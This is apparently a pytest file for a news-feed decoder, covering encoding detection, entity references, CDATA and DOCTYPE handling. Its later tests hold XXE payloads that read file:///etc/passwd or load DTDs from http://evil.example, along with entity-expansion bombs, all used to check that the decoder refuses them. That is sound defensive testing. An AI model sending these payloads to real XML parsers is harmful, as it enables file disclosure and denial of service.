"""Whatever encoding, reference or entity a feed uses, its text is what its author wrote; a broken character costs itself."""

import time
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tierbot.adapters.feeds.decode import decode, encoding_of, to_xml
from tierbot.domain.articles.feeds import FeedError

RUSSIAN = "Парламент принял новый закон о воде, и президент его подписал"
JAPANESE = "日本語の新聞記事です。今日は天気がいい。"
CHINESE = "中文新闻：今天天气很好，我们去公园"


def feed(text: str, encoding: str, declared: str = "") -> bytes:
    declaration = f' encoding="{declared}"' if declared else ""
    return f'<?xml version="1.0"{declaration}?><rss><title>{text}</title></rss>'.encode(encoding)


@pytest.mark.parametrize(
    ("text", "encoding", "declared", "header"),
    [
        (RUSSIAN, "cp1251", "windows-1251", ""),
        (RUSSIAN, "cp1251", "cp-1251", ""),
        (RUSSIAN, "cp1251", "x-cp1251", ""),
        (RUSSIAN, "cp1251", "", "text/xml; charset=iso-8859-1"),
        (RUSSIAN, "cp1251", "windows-1251", "text/xml; charset=iso-8859-1"),
        (RUSSIAN, "cp1251", "iso-8859-1", "text/xml; charset=windows-1251"),
        (RUSSIAN, "cp1251", "utf-8", ""),
        (RUSSIAN, "cp1251", "", ""),
        (RUSSIAN, "koi8-r", "", ""),
        (RUSSIAN, "utf-8", "windows-1251", "text/xml; charset=windows-1251"),
        (RUSSIAN, "utf-16", "utf-16", ""),
        (JAPANESE, "cp932", "x-sjis", ""),
        (JAPANESE, "cp932", "shift_jis", "text/html; charset=utf-8"),
        (JAPANESE, "euc-jp", "", ""),
        (JAPANESE, "iso-2022-jp", "iso-2022-jp", ""),
        (CHINESE, "gb18030", "gb2312", ""),
        (CHINESE, "gb18030", "", ""),
        ("Ελληνικά νέα σήμερα", "cp1253", "", ""),
        ("café naïve – “quoted”", "cp1252", "iso-8859-1", ""),
        ("café naïve", "cp1252", "", ""),
        ("한국어 뉴스 기사입니다", "cp949", "ks_c_5601-1987", ""),
    ],
)
def test_a_feed_is_read_in_the_encoding_that_it_was_written_in(text, encoding, declared, header):
    assert text in decode(feed(text, encoding, declared), header)


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("Le président a signé la loi ; les modèles européens empêchent, très tôt, où ça, à l'été. ", "cp1252"),
        ("Der Präsident hat das Gesetz über das Wasser für größere Städte unterschrieben. ", "cp1252"),
        ("O presidente assinou a lei da água. No próximo ano os preços vão subir, informações à mão, põe. ", "cp1252"),
        ("El próximo año subirán los precios, según el ministro. Mañana habrá más información. ", "cp1252"),
        ("Příliš žluťoučký kůň úpěl ďábelské ódy. Vláda schválila nový zákon o vodě. ", "cp1250"),
        ("Sejm przyjął nową ustawę o wodzie, ponieważ brakuje pieniędzy na szkoły. ", "cp1250"),
        ("Az elnök aláírta a vízről szóló új törvényt, jövőre az árak növekednek. Árvíztűrő. ", "cp1250"),
        ("Cumhurbaşkanı su yasasını imzaladı. Şimdi İstanbul için yağmur bekleniyor, söyledi. ", "cp1254"),
    ],
)
def test_without_any_declaration_accented_letters_show_the_language(text, encoding):
    assert text in decode(feed(text * 12, encoding), "")


@given(
    st.text(alphabet=st.characters(codec="utf-8", min_codepoint=0xA1), min_size=40), st.binary(min_size=1, max_size=1)
)
def test_one_broken_byte_in_utf8_costs_itself_only(text, byte):
    broken = feed(text, "utf-8")[:-14] + (b"\xff" if byte < b"\x80" else b"\xfe") + b"</title></rss>"
    assert f"<title>{text}\ufffd</title>" in decode(broken, "")


@given(st.binary(max_size=300), st.text(max_size=40))
def test_any_bytes_are_decoded(body, header):
    assert isinstance(decode(body, header), str)


def test_labels_are_those_that_browsers_know():
    assert [encoding_of(label) for label in ("latin1", "GB2312", "Shift_JIS", "klingon", "rot13", "")] == [
        "cp1252",
        "gb18030",
        "cp932",
        None,
        None,
        None,
    ]


@pytest.mark.parametrize(
    ("reference", "character"),
    [
        ("&#xD83D;&#xDE00;", "😀"),
        ("&#55357;&#56832;", "😀"),
        ("&#xD83D;", "\ufffd"),
        ("&#56832;&#55357;", "\ufffd\ufffd"),
        ("&#x110000;", "\ufffd"),
        ("&#xFFFF;", "\ufffd"),
        ("&#0;", " "),
        ("&#11;", " "),
        ("&#150;", "–"),
        ("&#8211;", "&#8211;"),
        ("&amp;", "&amp;"),
        ("&eacute;", "é"),
        ("&nbsp;", "\xa0"),
        ("&LT;", "&lt;"),
        ("R&D", "R&amp;D"),
        ("&unknown;", "&amp;unknown;"),
    ],
)
def test_every_reference_becomes_one_that_a_parser_knows(reference, character):
    assert to_xml(f"<rss>{reference}</rss>") == f"<rss>{character}</rss>"


def test_references_in_cdata_are_left_unless_no_parser_could_read_them():
    assert to_xml("<rss><![CDATA[&eacute; R&D &#55357;&#56832;]]></rss>") == "<rss><![CDATA[&eacute; R&D 😀]]></rss>"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY eacute "&#233;">]>',
        "<!DOCTYPE rss [\n<!-- it's ours --> <!ENTITY eacute 'é'>\n]>",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">',
        '<?xml version="1.0"?><!-- made by hand --><?xml-stylesheet href="a.xsl"?>\n<!doctype rss>',
        "",
    ],
)
def test_a_document_type_that_browsers_accept_is_accepted(doctype):
    assert to_xml(f"{doctype}<rss>caf&eacute;</rss>") == "<rss>café</rss>"


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">',
        '<!ENTITY a "&#38;b;"><!ENTITY b "x">',
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY x PUBLIC "p" "http://evil.example/x">',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
        f'<!ENTITY long "{"x" * 201}">',
        '<!ENTITY unclosed "x',
    ],
)
def test_entities_that_refer_to_entities_or_files_are_refused(subset):
    with pytest.raises(FeedError, match="defines its own entities"):
        to_xml(f"<!DOCTYPE rss [{subset}]><rss>&b;</rss>")


def test_an_entity_that_is_used_without_end_is_refused():
    with pytest.raises(FeedError, match="repeats its own entities"):
        to_xml(f'<!DOCTYPE rss [<!ENTITY a "{"x" * 200}">]><rss>{"&a;" * 6000}</rss>')


def test_an_article_about_entities_is_not_taken_for_a_bomb():
    text = '<rss><![CDATA[Why <!ENTITY x SYSTEM "file:///etc/passwd"> is dangerous]]></rss>'
    assert to_xml(text) == text


@pytest.mark.parametrize(
    "piece", ["<!--", "<?", "<!DOCTYPE [", "<!ENTITY ", "&", "&#", "<![CDATA[", "[\"'", "&#xD83D;"]
)
def test_hostile_declarations_cost_no_more_than_their_length(piece):
    began = time.thread_time()
    for text in (piece * (400_000 // len(piece)), "<!DOCTYPE rss [" + piece * (400_000 // len(piece))):
        with suppress(FeedError):
            to_xml(text)
    assert time.thread_time() - began < 2
